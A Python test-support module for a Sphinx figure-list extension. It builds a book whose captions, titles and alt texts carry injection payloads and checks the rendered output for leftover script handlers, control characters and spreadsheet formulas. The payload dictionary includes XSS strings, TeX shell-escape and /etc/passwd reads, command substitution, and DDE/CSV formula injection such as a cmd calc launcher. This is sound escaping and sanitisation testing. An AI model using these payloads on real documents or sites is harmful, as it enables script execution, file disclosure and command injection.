"""Books whose texts and names would act, where something took them for more than text."""

from __future__ import annotations

import re
import unicodedata
from collections.abc import Mapping
from pathlib import Path
from typing import Any, Final
from xml.etree.ElementTree import Element

from support.pages import elements
from support.small import book, figlist
from support.trees import png

#: What an attacker, a spreadsheet or a careless paste puts into a text.
TEXTS: Final[dict[str, str]] = {
    "html": "<script>alert(1)</script><img src=x onerror=alert(2)> &lt;b&gt; &#x3c;",
    "xml": "]]> <!-- --> <?php ?> <![CDATA[x]]> %e; &e; &#0; _x0041_",
    "attribute": '" onmouseover="alert(3)" x=\'y\' `',
    "script": "</script><script>alert(4)</script> ';alert(5)//",
    "tex": r"\write18{touch pwned} \input{/etc/passwd} \end{document} % # ~ ^^41 $x_{a}^b$",
    "tex-open": r"\begin{verbatim} }} {{ \iffalse \def\x & \csname end\endcsname a\b",
    "address": "file:///etc/passwd javascript:alert(6) data:text/html,x ../../../x C:/x",
    "markdown": "``` [x](javascript:alert(7)) ![y](z) <http://a.b> # h **b** | c | {x}`y`",
    "template": "{{ x }} {% raw %} %(x)s %s {0} {name} $HOME `id` $(id) ; rm",
    "roff": ".so /etc/passwd 'x \\fBb @include /etc/passwd @b{x}",
    "formula": '=HYPERLINK("http://example.org/?"&A1,"x")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3;=1+1",
    "at": "@SUM(1+1)",
    "tab": "\t=1+1",
    "unseen-formula": "\u202e=1+1\u202c \u200b;\ufeff=2",
    "wide-formula": "\uff1d1+1",
    "bidi": "abc \u202eevil\u202c \u2067x\u2069 \u200f \u200e unclosed \u2066 \u202e",
    "lines": "one\n=two\r\nthree\r=four\n\n# head\n\n---\n",
    "control": "a\x00b\x01c\x08d\x0be\x0cf\x1b[31mred\x1b]0;t\x07\x7fg\x85h\x9b1mi\ufffej",
    "separator": "one\u2028two\u2029three",
    "astral": "\U0001f5fa \U0001f468\u200d\U0001f469 e\u0301\u0302",
    "long": "word " * 300,
    "unbroken": "x" * 2000,
}
#: The same book without anything of that.
HARMLESS: Final = dict.fromkeys(TEXTS, "Words of no harm")

_ILLEGAL: Final = re.compile(
    "[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x84\x86-\x9f\ufffe\uffff]"
)
#: What a terminal obeys, or what turns the rest of its line around.
ACTIVE: Final = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u2028-\u202e\u2066-\u2069]"
)

#: Puts the texts where no source can hold them as they are.
EXTENSION: Final = """
from docutils import nodes

TEXTS = {texts!r}

def said(name, rawtext, text, lineno, inliner, options=None, content=None):
    return [nodes.Text(TEXTS[text])], []

def rewrite(app, document):
    for image in document.findall(nodes.image):
        alt = image.get("alt", "")
        if alt.startswith("said "):
            image["alt"] = TEXTS[alt[5:]]

def setup(app):
    app.add_role("said", said)
    app.connect("doctree-read", rewrite, priority=100)
    return {{"parallel_read_safe": True}}
"""

RST: Final = """\
:said:`{name}`
================================

.. figure:: p.png
   :name: fig-{name}
   :alt: said {name}

   :said:`{name}`

   Source: :said:`{name}`

See :numref:`fig-{name}`.
"""
MYST: Final = """\
# {{said}}`{name}`

```{{figure}} p.png
:name: fig-{name}
:alt: said {name}

{{said}}`{name}`

Source: {{said}}`{name}`
```

See {{numref}}`fig-{name}`.
"""

ALL_FIELDS: Final = "title caption alt legend image location credit label references"
LISTS: Final = {
    "full": {"fields": ALL_FIELDS, "searchable": True},
    "compact": {"layout": "compact"},
    "table": {"layout": "table", "fields": "title caption alt credit"},
    "gallery": {"layout": "gallery"},
}


def hostile(folder: Path, texts: Mapping[str, str], markup: str, **values: Any) -> Path:
    """A book that says *texts* in captions, titles, alts, legends, credits, headings."""
    module = f"{folder.name}_words"
    form, suffix = (RST, "rst") if markup == "rst" else (MYST, "md")
    files: dict[str, str | bytes] = {
        f"{name}.{suffix}": form.format(name=name) for name in texts
    }
    for name, options in LISTS.items():
        files[f"list-{name}.rst"] = f"{name}\n{'=' * 9}\n\n" + figlist(**options)
    names = "".join(f"   {name}\n" for name in (*texts, *map("list-{}".format, LISTS)))
    files["index.rst"] = f"Book\n====\n\n.. toctree::\n   :numbered:\n\n{names}"
    files[f"{module}.py"] = EXTENSION.format(texts=dict(texts))
    extensions = [module, "sphinxext_figlist", "myst_parser"]
    settings = {
        "extensions": extensions,
        "smartquotes": False,
        "figlist_title_from": "caption",
        "figlist_checks": "all",
        "figlist_formats": ["markdown", "csv", "json", "xlsx"],
        "version": "1",
        "copyright": "x",
        "epub_show_urls": "no",
    }
    return book(folder, {**files, "p.png": png()}, **{**settings, **values})


def in_xml(text: str) -> bool:
    """Whether XML can hold *text*: Sphinx's own pages are none where it cannot."""
    return not _ILLEGAL.search(text)


def seen(text: str) -> str:
    """What there is of *text* to see, whatever its white space."""
    text = _ILLEGAL.sub(lambda m: "\ufffd" if m[0] in "\ufffe\uffff" else "", text)
    return "".join(char for char in text if not char.isspace())


def shape(element: Element) -> tuple[Any, ...]:
    """The elements of a page, their attributes and classes, without texts and values."""
    return (
        element.tag,
        sorted(element.attrib),
        # How wide a column is depends on what is in it.
        sorted(c for c in element.get("class", "").split() if "-from-" not in c),
        [shape(child) for child in element],
    )


def handlers(element: Element) -> list[str]:
    """What would run in a page, but for the scripts of its theme."""
    return [
        f"{one.tag} {name}={value}"
        for one in elements(element)
        for name, value in one.attrib.items()
        if name.startswith("on") or value.lower().startswith(("javascript:", "data:"))
    ]


def is_formula(cell: str) -> bool:
    """Whether a spreadsheet may run *cell*, or what stands behind a semicolon in it."""
    parts = (
        "".join(char for char in part if unicodedata.category(char) != "Cf").strip()
        for part in cell.split(";")
    )
    return any(part.startswith(tuple("=+-@\uff1d\uff0b\uff0d\uff20")) for part in parts)
